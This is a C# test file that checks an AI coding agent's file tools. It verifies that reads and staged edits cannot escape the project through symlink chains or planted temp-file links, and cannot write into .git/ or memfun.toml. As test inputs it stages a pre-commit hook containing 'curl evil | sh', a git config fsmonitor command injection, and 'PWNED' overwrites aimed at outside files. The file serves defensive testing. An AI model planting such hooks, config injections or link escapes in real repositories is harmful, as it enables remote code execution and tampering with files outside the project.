using Memfun.Tools;
using Memfun.Tools.Files;
using System.Text.Json;
using Memfun.Agent.Coding;
using Memfun.Core.Errors;
using Memfun.Core.Processes;
using Memfun.Testing;

namespace Memfun.Agent.Tests.Coding;

/// <summary>
/// Issue 14 against the agent's REPL tools and staged edits, on real files: the link chain
/// (<c>lnk1 -&gt; /outside</c>, <c>lnk2 -&gt; lnk1/inner</c>, <c>f2 -&gt; lnk1/top.txt</c>), a planted temporary file, and
/// writes to <c>.git/</c> and <c>memfun.toml</c>.
/// </summary>
public sealed class PathConfinementTests : IDisposable
{
    private const string OutsideTop = "OUTSIDE-TOP\n";
    private const string OutsideSecret = "OUTSIDE-SECRET\n";
    private readonly TempDirectory _project = new();
    private readonly TempDirectory _outside = new();
    private readonly CancellationToken _ct = TestContext.Current.CancellationToken;

    public PathConfinementTests()
    {
        _project.WriteFile("src/x.py", "x = 1\n");
        LinkChain.Plant(_project.Path, _outside, OutsideTop, OutsideSecret);
    }

    public void Dispose()
    {
        _project.Dispose();
        _outside.Dispose();
    }

    [Theory]
    [InlineData("lnk2/secret.txt")]
    [InlineData("f2")]
    public async Task ReplReadFile_ThroughTheChain_IsRefused(string path)
    {
        var edits = new PendingEdits(_project.Path);
        var readFile = RepositoryTools.ReadOnly(new ToolContext { ProjectRoot = _project.Path, Edits = edits }).Single(t => t.Name == "read_file");

        var error = await Assert.ThrowsAsync<SecurityException>(async () => await readFile.Function(Call(path), _ct));

        Assert.Equal(MemfunErrorCodes.SecurityPathEscape, error.ErrorCode);
        Assert.DoesNotContain("OUTSIDE", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ReplListFiles_LeavesOutLinksThatLeaveTheProject()
    {
        var git = await ProcessRunner.TryRunAsync("git", ["init", "-q"], _project.Path, cancellationToken: _ct);
        Assert.True(git?.Succeeded);
        _project.WriteFile("real/docs/a.md", "inside\n");
        Directory.CreateSymbolicLink(_project.Combine("docs"), "real/docs");
        var listFiles = RepositoryTools.ReadOnly(new ToolContext { ProjectRoot = _project.Path, Edits = new PendingEdits(_project.Path) }).Single(t => t.Name == "list_files");

        var files = (await listFiles.Function(Call(), _ct)).EnumerateArray().Select(f => f.GetString()).ToList();

        Assert.Equal(["docs", "real/docs/a.md", "src/x.py"], files);
    }

    [Theory]
    [InlineData("lnk2/new.txt")]
    [InlineData("lnk2/secret.txt")]
    [InlineData("f2")]
    public async Task StagedWrites_ThroughTheChain_FailWhenStaged(string path)
    {
        var edits = new PendingEdits(_project.Path);
        var tools = RepositoryTools.Editing(new ToolContext { ProjectRoot = _project.Path, Edits = edits }).ToDictionary(t => t.Name);

        var write = await Assert.ThrowsAsync<SecurityException>(async () => await tools["write_file"].Function(Call(path, "PWNED"), _ct));
        var edit = await Assert.ThrowsAsync<SecurityException>(() => edits.EditAsync(path, "OUTSIDE", "PWNED", _ct));
        await edits.ApplyAsync(cancellationToken: _ct);

        Assert.Equal(MemfunErrorCodes.SecurityPathEscape, write.ErrorCode);
        Assert.Equal(MemfunErrorCodes.SecurityPathEscape, edit.ErrorCode);
        Assert.Empty(edits.Paths);
        AssertOutsideUntouched();
    }

    [Fact]
    public async Task Apply_NeverWritesThroughAPlantedTemporaryFile()
    {
        // The old apply wrote <file>.memfun-tmp and renamed it: a link planted there redirected the write.
        File.CreateSymbolicLink(_project.Combine("src/x.py.memfun-tmp"), _outside.Combine("top.txt"));
        var edits = new PendingEdits(_project.Path);
        await edits.EditAsync("src/x.py", "x = 1", "x = 2", _ct);

        var diff = await edits.DiffAsync(cancellationToken: _ct);
        await edits.ApplyAsync(cancellationToken: _ct);

        Assert.Equal("x = 2\n", File.ReadAllText(_project.Combine("src/x.py")));
        Assert.Null(new FileInfo(_project.Combine("src/x.py")).LinkTarget);
        Assert.Equal(["x.py", "x.py.memfun-tmp"], Directory.GetFiles(_project.Combine("src")).Select(f => Path.GetFileName(f)).Order(StringComparer.Ordinal));
        Assert.Contains("+++ b/src/x.py", diff, StringComparison.Ordinal);
        AssertOutsideUntouched();
    }

    [Theory]
    [InlineData(".git/config")]
    [InlineData(".git/hooks/pre-commit")]
    [InlineData(".GIT/config")]
    [InlineData("memfun.toml")]
    public async Task StagedWrites_ToGitAndMemfunToml_FailWhenStaged(string path)
    {
        _project.WriteFile(".git/config", "[core]\n");
        _project.WriteFile(".git/hooks/pre-commit", "#!/bin/sh\n");
        _project.WriteFile("memfun.toml", "[llm]\n");
        var edits = new PendingEdits(_project.Path);

        var write = await Assert.ThrowsAsync<SecurityException>(() => edits.WriteAsync(path, "[core]\n\tfsmonitor = touch /tmp/pwned\n", _ct));
        var edit = await Assert.ThrowsAsync<SecurityException>(() => edits.EditAsync(path, "[", "#[", _ct));

        Assert.Equal(MemfunErrorCodes.SecurityDenied, write.ErrorCode);
        Assert.Equal(MemfunErrorCodes.SecurityDenied, edit.ErrorCode);
        Assert.Empty(edits.Paths);
    }

    [Fact]
    public async Task Apply_ChecksAgain_AndWritesNothingWhenAPathTurnedIntoALinkSinceStaging()
    {
        _project.WriteFile(".git/hooks/pre-commit", "#!/bin/sh\n");
        _project.CreateDirectory("hooks");
        _project.CreateDirectory("sub");
        var edits = new PendingEdits(_project.Path);
        await edits.WriteAsync("a-first.txt", "first\n", _ct);
        await edits.WriteAsync("hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", _ct);
        await edits.WriteAsync("sub/x.py", "PWNED\n", _ct);
        Directory.Delete(_project.Combine("hooks"));
        Directory.CreateSymbolicLink(_project.Combine("hooks"), ".git/hooks");

        var intoGit = await Assert.ThrowsAsync<SecurityException>(() => edits.ApplyAsync(cancellationToken: _ct));
        Directory.Delete(_project.Combine("hooks"));
        Directory.Delete(_project.Combine("sub"));
        Directory.CreateSymbolicLink(_project.Combine("sub"), _outside.Path);
        var outside = await Assert.ThrowsAsync<SecurityException>(() => edits.ApplyAsync(cancellationToken: _ct));

        Assert.Equal(MemfunErrorCodes.SecurityDenied, intoGit.ErrorCode);
        Assert.Equal(MemfunErrorCodes.SecurityPathEscape, outside.ErrorCode);
        Assert.Equal("#!/bin/sh\n", File.ReadAllText(_project.Combine(".git/hooks/pre-commit")));
        Assert.False(File.Exists(_project.Combine("a-first.txt")));
        AssertOutsideUntouched();
    }

    [Fact]
    public async Task AnInProjectLink_StillWorks_AndTheDiffNamesTheRealFile()
    {
        _project.WriteFile("real/docs/a.md", "one\n");
        Directory.CreateSymbolicLink(_project.Combine("docs"), "real/docs");
        var edits = new PendingEdits(_project.Path);

        await edits.EditAsync("docs/a.md", "one", "two", _ct);
        await edits.WriteAsync("docs/new.md", "new\n", _ct);
        var diff = await edits.DiffAsync(cancellationToken: _ct);
        await edits.ApplyAsync(cancellationToken: _ct);

        Assert.Equal("two\n", edits.Read("docs/a.md"));
        Assert.Equal(["real/docs/a.md", "real/docs/new.md"], edits.Paths);
        Assert.Contains("--- a/real/docs/a.md\n+++ b/real/docs/a.md", diff, StringComparison.Ordinal);
        Assert.Equal("two\n", File.ReadAllText(_project.Combine("real/docs/a.md")));
        Assert.Equal("new\n", File.ReadAllText(_project.Combine("real/docs/new.md")));
        Assert.NotNull(new DirectoryInfo(_project.Combine("docs")).LinkTarget);
    }

    private static JsonElement Call(params string[] arguments) => JsonSerializer.SerializeToElement(new { args = arguments });

    private void AssertOutsideUntouched()
    {
        Assert.Equal(OutsideTop, File.ReadAllText(_outside.Combine("top.txt")));
        Assert.Equal(OutsideSecret, File.ReadAllText(_outside.Combine("inner/secret.txt")));
        Assert.Equal(["inner/secret.txt", "top.txt"], Directory.GetFiles(_outside.Path, "*", SearchOption.AllDirectories)
            .Select(f => Path.GetRelativePath(_outside.Path, f)).Order(StringComparer.Ordinal));
    }
}
